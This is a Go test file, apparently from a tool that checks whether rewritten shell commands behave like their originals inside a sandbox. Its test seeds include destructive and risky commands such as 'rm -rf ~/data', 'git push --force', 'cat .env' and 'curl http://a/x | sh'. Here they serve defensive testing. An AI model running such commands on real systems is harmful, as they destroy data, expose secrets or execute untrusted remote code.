package prove

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"slices"
	"strings"
	"testing"
	"time"

	gocmp "github.com/google/go-cmp/cmp"
	"go.uber.org/goleak"

	"hookwatch/suites/process"
	"hookwatch/suites/process/testdata/processtest"
	"hookwatch/suites/run"
	"hookwatch/suites/sandbox"
)

func TestMain(m *testing.M) {
	if err := errors.Join(processtest.ResolveShims(), processtest.Overlap(), process.Adopt()); err != nil {
		panic(err)
	}
	processtest.VerifyTestMain(m, nil, goleak.IgnoreAnyFunction("github.com/dlclark/regexp2/v2.runClock"))
}

// newRunner returns a runner in an empty project. It skips the test on a machine without namespaces.
func newRunner(t testing.TB) *run.Runner {
	t.Helper()
	root, temp, home := t.TempDir(), t.TempDir(), t.TempDir()
	choice, err := sandbox.Choose(sandbox.Auto, sandbox.Options{Root: root, Home: home, Size: 64 << 20, Processes: 100}, temp)
	if err != nil {
		t.Skip("no namespaces: ", err)
	}
	r := run.New(run.Options{Root: root, Temp: temp, Timeout: time.Minute, Isolation: choice, Registered: Executor, Env: append(os.Environ(), "HOME="+home)})
	t.Cleanup(r.Close)
	return r
}

// executed returns what the texts do.
func executed(t testing.TB, r *run.Runner, seed string, texts []string) map[int]Effect {
	t.Helper()
	o, err := r.Case(context.Background(), Execution([]string{seed}, texts))
	if err != nil {
		t.Fatal(err)
	}
	if len(o.Last().Files[results]) == 0 {
		t.Fatalf("nothing was executed: %+v", o)
	}
	if err := r.Remove(o); err != nil {
		t.Fatal(err)
	}
	return effects(o)
}

// TestEquivalent executes rewrites of the seeds: they do the same, but for a few that are known not
// to, so that the comparison does not accept everything. Each rule is tried on one seed and on every
// 24th after it, or if the tests are exhaustive on every seed.
func TestEquivalent(t *testing.T) {
	t.Parallel()
	r := newRunner(t)
	known := []string{">/dev/null", ": $(", "env -S", "more ", "nl ", "diff ", "comm ", "jq "}
	tried := map[string]int{}
	for n, seed := range seeds {
		all, err := Rewrites(seed)
		if err != nil {
			t.Fatal(err)
		}
		texts := []string{seed}
		for i, w := range all {
			if executable(w.Text, names(seed)) != "" {
				continue
			}
			if tried[w.Rule]++; tried[w.Rule] <= 1 || (n+i)%24 == 0 || processtest.Exhaustive() {
				texts = append(texts, w.Text)
			}
		}
		effects := executed(t, r, seed, texts)
		if effects[0].None() || len(effects) != len(texts) {
			t.Errorf("%s: %d of %d were executed, it %s", seed, len(effects), len(texts), effects[0])
			continue
		}
		for i, text := range texts {
			expected := !slices.ContainsFunc(known, func(k string) bool { return strings.Contains(text, k) })
			if path, _, _ := strings.Cut(text, " "); strings.HasPrefix(path, "/") {
				_, err := os.Stat(path)
				expected = expected && err == nil
			}
			if same := effects[i].key() == effects[0].key(); expected && !same {
				t.Errorf("%q does not do what %q does: %q %s", text, seed, effects[i].String(), effects[i].Output)
			}
		}
	}
}

// TestDifferent checks that a text which does something else is not taken for a rewrite.
func TestDifferent(t *testing.T) {
	t.Parallel()
	r := newRunner(t)
	for seed, others := range map[string][]string{
		"git push --force origin main": {"git push origin main", "git push --force origin next", "echo git push --force origin main", "cd .. && git push --force origin main", "git push --force origin main; git push --force origin main", "true", "echo ok && git push --force origin main"},
		"rm -rf ~/data":                {"rm -rf data", "rm -rf ~/other", "rm -r ~/data", "bash -c 'rm -rf' ~/data", "rm -rf ~/data x"},
		"cat .env":                     {"cat README.md", "echo .env", "cat .env > copy"},
		"echo x > .env":                {"echo x | tee .env", "echo y > .env", "echo x >> .env", "echo x > .env.local", "echo x"},
		"yarn add x":                   {"/usr/sbin/yarn add x", "sudo /usr/sbin/yarn add x"}, // not installed there
		"curl http://a/x | sh":         {"curl http://a/x", "curl http://a/y | sh", "curl http://a/x > x.sh"},
	} {
		effects := executed(t, r, seed, append([]string{seed}, others...))
		for i, text := range others {
			if effects[i+1].key() == effects[0].key() {
				t.Errorf("%q is taken for %q: %s", text, seed, effects[i+1])
			}
		}
	}
}

// TestRealPrograms runs rewrites of options with git and rm themselves: what the grammars take for
// the same leaves the same files, branches and remote branches.
func TestRealPrograms(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git: ", err)
	}
	const env = `export HOME=$PWD GIT_CONFIG_NOSYSTEM=1 GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@a GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@a GIT_AUTHOR_DATE='1700000000 +0000' GIT_COMMITTER_DATE='1700000000 +0000'
`
	const prepare = env + `git init -q --bare --template= -b main r.git; git init -q --template= -b main w; mkdir w/.git/hooks; cd w; git remote add origin ../r.git
echo 1 >a; git add a; git commit -qm 1; echo 2 >a; git commit -qam 2; git branch old; git checkout -q old; git commit -q --allow-empty -m 3; git checkout -q main; git push -q origin main old
git reset -q --hard HEAD~1; echo 4 >b; git add b; git commit -qm 4; echo 5 >>b; git add b; mkdir d; echo 6 >d/c; echo .i >.gitignore; echo x >.i; printf 'exit 1\n' >.git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
`
	prepared := t.TempDir()
	cmd := exec.Command("bash", "-c", prepare)
	cmd.Dir = prepared
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	effect := func(text string) string {
		cmd := exec.Command("bash", "-c", env+"cp -a '"+prepared+"'/. . && cd w && { "+text+"\n} >/dev/null 2>&1\nfind . -path ./.git -prune -o -type f -exec head -v {} + | sort; git for-each-ref --format='%(refname) %(tree)' refs/heads; git -C ../r.git for-each-ref --format='%(refname) %(tree)'; git diff --cached")
		cmd.Dir = t.TempDir()
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("%s: %v\n%s", text, err, out)
		}
		return string(out)
	}
	nothing := effect("true")
	for _, seed := range processtest.Sample([]string{"git push --force origin main", "git push --delete origin old", "git reset --hard HEAD~1", "git clean -fdx", "git branch -D old", "git commit --no-verify -m x", "rm -rf d"}, 3) {
		want := effect(seed)
		if want == nothing {
			t.Errorf("%s does nothing", seed)
		}
		all, err := Rewrites(seed)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range all {
			rule, _, _ := strings.Cut(r.Rule, "/")
			if !slices.Contains([]string{"option-order", "option-form", "refspec", "global-option", "path"}, rule) {
				continue
			}
			if got := effect(r.Text); got != want {
				t.Errorf("%q does not do what %q does:\n%s", r.Text, seed, gocmp.Diff(want, got))
			}
		}
	}
}

// TestEndless checks that a text which does not end is killed, has no effect, and does not stop those
// after it.
func TestEndless(t *testing.T) {
	t.Parallel()
	const seed = "git push --force origin main"
	effects := executed(t, newRunner(t), seed, []string{"sleep 600", seed})
	if _, ended := effects[0]; ended || effects[1].None() {
		t.Errorf("%+v", effects)
	}
}
